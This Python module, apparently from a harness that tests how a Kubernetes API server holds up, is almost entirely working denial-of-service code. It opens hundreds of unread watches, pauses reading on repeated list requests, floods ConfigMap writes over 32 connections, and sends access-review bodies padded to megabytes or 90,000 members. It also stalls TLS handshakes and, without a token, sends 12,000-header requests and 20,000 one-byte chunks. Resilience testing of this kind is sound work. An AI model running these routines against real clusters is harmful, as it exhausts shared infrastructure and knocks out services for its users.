"""What the holder of one token can do to the API server: watches, unread lists, floods of writes."""

from __future__ import annotations

import asyncio
import functools
import itertools
import json
from collections import Counter
from pathlib import Path

import kube
from attack.target import Outcomes, Target, Wire, outcome, repeat, rest, sending

CONFIGS = "/api/v1/namespaces/default/configmaps"
WATCHES = 600
LISTS = 60


def _request(cluster: kube.Cluster, path: str) -> bytes:
    return (
        f"GET {path} HTTP/1.1\r\nHost: {cluster.host}\r\nAuthorization: Bearer {cluster.token}\r\n"
        "Accept: application/json\r\n\r\n"
    ).encode()


async def watches(target: Target) -> Outcomes:
    """A reader opens as many watches as it gets, and reads none of them."""
    cluster = kube.Cluster.load(Path(target.user_kubeconfig))

    async def attempt() -> str:
        wire = await Wire.open(cluster.port, cluster.context)
        try:
            await wire.send(_request(cluster, f"{CONFIGS}?watch=1"))
            status = await wire.status(timeout_s=10)
            if status == "200":
                await rest(target)
            return status
        finally:
            wire.reset()

    return Counter(await asyncio.gather(*(outcome(attempt()) for _ in range(WATCHES))))


async def unread_lists(target: Target) -> Outcomes:
    """A reader asks for lists of large objects again and again, and reads none."""
    cluster = kube.Cluster.load(Path(target.user_kubeconfig))

    async def attempt() -> str:
        wire = await Wire.open(cluster.port, cluster.context)
        try:
            wire.writer.transport.pause_reading()  # type: ignore[attr-defined]
            for _ in range(20):
                await wire.send(_request(cluster, "/api/v1/configmaps"))
                if target.is_over:
                    break
            await rest(target)
            return "held"
        finally:
            wire.reset()

    return Counter(await asyncio.gather(*(outcome(attempt()) for _ in range(LISTS))))


async def make_large_objects(kubeconfig: str) -> None:
    """Two hundred objects of 100 KB, for the lists."""
    connection = await kube.Cluster.load(Path(kubeconfig)).connect()
    for number in range(200):
        document = {
            "apiVersion": "v1",
            "kind": "ConfigMap",
            "metadata": {"name": f"large-{number}"},
            "data": {"x": "y" * 100_000},
        }
        await connection.request("POST", CONFIGS, json.dumps(document).encode())
    connection.close()


async def writes(target: Target) -> Outcomes:
    """One user creates objects over 32 connections, as fast as it gets answers."""
    cluster = kube.Cluster.load(Path(target.writer_kubeconfig))
    numbers = itertools.count()
    outcomes: Outcomes = Counter()

    async def one() -> None:
        connection = await cluster.connect()
        while not target.is_over:
            document = {
                "apiVersion": "v1",
                "kind": "ConfigMap",
                "metadata": {"name": f"flood-{next(numbers)}"},
                "data": {"x": "y" * 1000},
            }
            answer = await connection.request("POST", CONFIGS, json.dumps(document).encode())
            outcomes[str(answer.status)] += 1
        connection.close()

    for came in await asyncio.gather(*(outcome(_told(one())) for _ in range(32))):
        if came != "done":
            outcomes[came] += 1
    return outcomes


async def _told(work: object) -> str:
    await work  # type: ignore[misc]
    return "done"


@functools.cache
def long_reviews() -> list[bytes]:
    """One long text, a long list, and an object of many members."""
    document = {
        "apiVersion": "authorization.k8s.io/v1",
        "kind": "SelfSubjectAccessReview",
        "spec": {"resourceAttributes": {"verb": "get", "resource": "pods"}},
    }
    return [
        json.dumps({**document, "metadata": {"annotations": {"x": "y" * 2_900_000}}}).encode(),
        json.dumps({**document, "more": [[]] * 90_000}).encode(),
        json.dumps({**document, "more": {f"k{number}": number for number in range(90_000)}}).encode(),
    ]


async def reviews(target: Target) -> Outcomes:
    """A reader asks what it may do, in requests as long as they may be and full of values."""
    cluster = kube.Cluster.load(Path(target.user_kubeconfig))
    bodies = long_reviews()
    outcomes: Outcomes = Counter()

    async def one(turn: int) -> str:
        while not target.is_over:
            connection = await cluster.connect()
            answer = await connection.request("POST", _REVIEWS, bodies[turn % len(bodies)])
            outcomes[str(answer.status)] += 1
            connection.close()
            turn += 1
        return "done"

    for came in await asyncio.gather(*(outcome(one(turn)) for turn in range(8))):
        if came != "done":
            outcomes[came] += 1
    return outcomes


_REVIEWS = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"


async def handshakes(target: Target) -> Outcomes:
    """Connections to the API server that begin TLS and go no further."""
    port = kube.Cluster.load(Path(target.user_kubeconfig)).port

    async def attempt() -> str:
        wire = await Wire.open(port)
        try:
            await wire.send(b"\x16\x03\x01\x02\x00")
            done = asyncio.ensure_future(wire.reader.read(1))
            held = asyncio.ensure_future(rest(target))
            await asyncio.wait((done, held), return_when=asyncio.FIRST_COMPLETED)
            return "closed" if done.done() else "held"
        finally:
            for task in (done, held):
                task.cancel()
            wire.reset()

    return await repeat(target, 300, attempt)


async def tiny_headers(target: Target) -> Outcomes:
    """Without a token: heads of 60 KB that have 12,000 headers."""
    head = b"GET / HTTP/1.1\r\nhost: x\r\n" + b"a:b\r\n" * 12_000 + b"\r\n"
    return await _strangers(target, head)


async def tiny_chunks(target: Target) -> Outcomes:
    """Without a token: bodies of 20,000 chunks of one byte."""
    head = b"POST /api/v1/namespaces HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n"
    return await _strangers(target, head + b"1\r\nx\r\n" * 20_000 + b"0\r\n\r\n")


async def _strangers(target: Target, request: bytes) -> Outcomes:
    cluster = kube.Cluster.load(Path(target.user_kubeconfig))

    async def attempt() -> str:
        wire = await Wire.open(cluster.port, cluster.context)
        try:
            async with sending(wire, request):
                return await wire.status(timeout_s=10)
        finally:
            wire.reset()

    return await repeat(target, 16, attempt)
